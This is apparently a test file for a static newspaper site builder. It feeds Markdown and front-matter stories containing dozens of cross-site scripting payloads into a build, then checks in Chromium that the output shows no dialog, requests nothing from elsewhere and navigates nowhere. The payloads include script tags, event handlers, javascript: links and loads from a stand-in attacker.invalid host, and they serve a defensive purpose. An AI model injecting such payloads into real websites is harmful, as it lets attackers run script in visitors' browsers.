import { cpSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'vitest';
import { createBuilder } from '../../src/builder.ts';
import { loadConfig } from '../../src/config/load.ts';
import { openDiskOutput } from '../../src/output/disk.ts';
import { launchBrowser } from '../support/browser.ts';
import { testWithChromium } from '../support/machine.ts';
import { serve } from '../support/serve.ts';
import { buildSite, createSiteFolder, story } from '../support/site.ts';

/** What a hostile contributor might write: each would show a dialog or fetch from elsewhere, if it worked. */
const BODIES = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<iframe src="https://attacker.invalid/"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="https://attacker.invalid/x.swf"></object><embed src="https://attacker.invalid/y">',
  '<link rel="stylesheet" href="https://attacker.invalid/x.css">',
  '<style>@import "https://attacker.invalid/x.css"; body { background: url(https://attacker.invalid/y) }</style>',
  '<p style="background:url(https://attacker.invalid/z)">x</p>',
  '<meta http-equiv="refresh" content="0; url=https://attacker.invalid/">',
  '<base href="https://attacker.invalid/"><a href="relative">x</a>',
  '<form action="https://attacker.invalid/"><input autofocus onfocus=alert(1)><button>x</button></form>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video autoplay onloadstart=alert(1) src=x></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- x --!><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href="&#106;avascript&colon;alert(1)">click</a>',
  '<a href=" \u0001javascript:alert(1)">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](&#x6A;avascript:alert(1))',
  '[click](java&#9;script:alert(1))',
  '[click](<java\tscript:alert(1)>)',
  '[click](javascript&colon;alert(1))',
  '[click]( data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](x.png "y")',
  '![x](/x.svg"onerror="alert(1))',
  '[x](https://example.invalid "t" onmouseover="alert(1)")',
  '# Heading {#x" onclick="alert(1)}',
  '# <img src=x onerror=alert(1)>',
  '::: factbox <img src=x onerror=alert(1)>\ntext\n:::',
  '::: video javascript:alert(1)\n:::',
  '::: video https://attacker.invalid/"onerror="alert(1)\n:::',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  '```<img src=x onerror=alert(1)>\nx\n```',
  '<div id="main"><img name="alert"><a id="helpers"></a></div>',
  '<%- process.exit(1) %> <%= alert(1) %>',
];

/** Front matter that would break out of an element, an attribute or a script. */
const WORDS = [
  '"><img src=x onerror=alert(1)>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<%= alert(1) %>',
];

testWithChromium(
  'hostile stories run nothing, load nothing and lead nowhere in Chromium',
  async () => {
    const bodies = BODIES.map((body, i) => [
      `stories/world/b${i}.md`,
      story({ headline: `Body ${i}` }, `${body}\n`),
    ]);
    const words = WORDS.map((word, i) => [
      `stories/world/w${i}.md`,
      story({
        headline: word,
        dek: word,
        tags: [`tag ${word.replace(/[/\\]/g, '')}`],
        byline: word,
        dateline: word,
        credit: word,
        image: { src: '/x.svg', alt: word, caption: word, credit: word },
        corrections: [{ date: '2026-05-02', kind: 'correction', text: word }],
      }),
    ]);
    const root = createSiteFolder({
      ...Object.fromEntries([...bodies, ...words]),
      'public/x.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
    });
    const report = await buildSite(root, {
      config: { missing: { images: 'warning', links: 'warning' }, title: WORDS[0] ?? '' },
    });
    expect(report.problems.filter(({ severity }) => severity === 'error')).toEqual([]);

    const origin = await serve(join(root, 'dist'));
    const browser = await launchBrowser();
    const page = await browser.newPage();
    const found: string[] = [];
    page.on('dialog', (dialog) => {
      found.push(`dialog on ${page.url()}`);
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      if (!request.url().startsWith(origin))
        found.push(`request for ${request.url()} from ${page.url()}`);
    });
    const pages = report.planned.filter((path) => path.endsWith('.html'));
    expect(pages.length).toBeGreaterThan(BODIES.length + WORDS.length);
    for (const path of pages) {
      const url = `${origin}/${path
        .split('/')
        .map(encodeURIComponent)
        .join('/')
        .replace(/index\.html$/, '')}`;
      await page.goto(url);
      for (const link of await page.locator('.body').getByText('click', { exact: true }).all())
        await link.click({ noWaitAfter: true });
      await page.evaluate('new Promise((done) => requestAnimationFrame(() => setTimeout(done)))');
      if (page.url() !== url) found.push(`${url} led to ${page.url()}`);
    }
    expect(found).toEqual([]);
  },
);

testWithChromium('the sample newspaper opens in Chromium without a complaint', async () => {
  const root = join(import.meta.dirname, '../..');
  const copy = createSiteFolder({});
  for (const name of ['stories', 'pages', 'public', 'broadsheet.config.ts'])
    cpSync(join(root, name), join(copy, name), { recursive: true });
  const config = await loadConfig(copy, undefined, {});
  const release = { clock: Date.parse('2026-11-23T12:00:00Z'), drafts: false, future: false };
  const openOutput = () => openDiskOutput({ root: copy, out: 'dist' });
  const report = await createBuilder(
    { root: copy, config, release },
    { openOutput, now: () => 0 },
  ).build();

  const origin = await serve(join(copy, 'dist'));
  const browser = await launchBrowser();
  const complaints: string[] = [];
  const isRedirect = (path: string) =>
    readFileSync(join(copy, 'dist', path), 'utf8').includes('http-equiv="refresh"');
  const readable = report.planned.filter(
    (path) =>
      path.endsWith('.html') &&
      path !== '404.html' &&
      !path.startsWith('topics/') &&
      !isRedirect(path),
  );
  for (const width of [320, 1280]) {
    const page = await browser.newPage({ viewport: { width, height: 900 } });
    page.on('console', (message) => complaints.push(`${page.url()}: ${message.text()}`));
    page.on('response', (response) => {
      if (response.status() >= 400)
        complaints.push(`${page.url()}: ${response.status()} ${response.url()}`);
    });
    for (const path of readable) {
      await page.goto(`${origin}/${path.replace(/index\.html$/, '')}`);
      const overflows = await page.evaluate(
        'document.documentElement.scrollWidth > window.innerWidth',
      );
      if (overflows) complaints.push(`${page.url()} scrolls sideways at ${width}`);
    }
    await page.close();
  }
  expect(complaints).toEqual([]);
});
